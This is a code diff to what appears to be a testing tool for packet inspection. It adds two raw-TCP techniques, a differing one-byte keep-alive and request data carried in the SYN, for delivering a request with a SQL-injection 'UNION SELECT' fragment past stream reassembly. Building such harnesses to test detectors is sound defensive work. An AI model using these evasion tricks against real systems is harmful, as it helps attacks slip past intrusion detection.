@@ -50,6 +50,9 @@ TECHNIQUE is one of:
              takes it, the receiver does not), a SYN whose stream starts at
              the old one's next byte (conntrack makes a new connection),
              its ACK, then "   SELECT ..." there
+  keepalive  raw: "... UNION", a keep-alive of one byte with another value
+             at its last byte, then "   SELECT ..."
+  syn-data   raw: the request in the SYN, then the handshake's ACK
   overlap    raw: "... UNI", then a segment of old bytes that differ and new
              ones ("abcON   SELECT ...")
   midstream  raw: "... UNION", then, after the suite deleted the connection's
@@ -261,7 +264,10 @@ def handshake_tricks(technique, src, dst, port):
         isn2 = isn + 40000
         md5 = technique == "isn-change-md5"
         c.send(isn, SYN, options=MD5_OPTION if md5 else b"")
-        time.sleep(0.1)
+        if md5:
+            time.sleep(0.1)
+        # without the option, at once: both SYNs come before conntrack
+        # confirmed the first one's connection, each a first packet
         c.send(isn2, SYN)
         synack = [s for s in c.receive(1.5) if s[0] & SYN and s[0] & ACK]
         if not synack:
@@ -278,13 +284,19 @@ def handshake_tricks(technique, src, dst, port):
         c.receive(1.0)
         print(c.acked())
         return 0
-    c.send(isn, SYN)
+    # syn-data: the request in the SYN (TCP Fast Open without a cookie)
+    c.send(isn, SYN, b"GET /x?id=1 " + REST if technique == "syn-data" else b"")
     synack = [s for s in c.receive(1.5) if s[0] & SYN and s[0] & ACK]
     if not synack:
         print("no-synack")
         return 0
     c.peer = synack[0][1] + 1
     seq = isn + 1
+    if technique == "syn-data":
+        c.send(seq, ACK)
+        c.receive(1.0)
+        print(c.acked())
+        return 0
     if technique == "ack-old-early":
         # before the handshake's ACK: decoys acknowledging bytes far
         # before the server's first (its listener answers with a reset)
@@ -337,6 +349,17 @@ def end_tricks(technique, src, dst, port):
         print("no-synack")
         return 0
     seq = c.isn + 1
+    if technique == "keepalive":
+        # a keep-alive of one byte (the last one sent, as some stacks send
+        # it, here with another value), then the rest
+        c.send(seq, ACK | PSH, HEAD)
+        c.receive(0.3)
+        c.send(seq + len(HEAD) - 1, ACK, b"X")
+        c.receive(0.3)
+        c.send(seq + len(HEAD), ACK | PSH, TAIL)
+        c.receive(1.0)
+        print(c.acked())
+        return 0
     if technique == "overlap":
         c.send(seq, ACK | PSH, b"GET /x?id=1 UNI")
         c.receive(0.3)
@@ -375,7 +398,7 @@ TRICKS = {
     "ack-old-early": handshake_tricks, "start-ahead": handshake_tricks,
     "isn-change": handshake_tricks, "isn-change-md5": handshake_tricks,
     "fin-md5-reopen": end_tricks, "rst-md5-reopen": end_tricks, "overlap": end_tricks,
-    "rst-md5-new-syn": end_tricks,
+    "rst-md5-new-syn": end_tricks, "keepalive": end_tricks, "syn-data": handshake_tricks,
 }
 
 
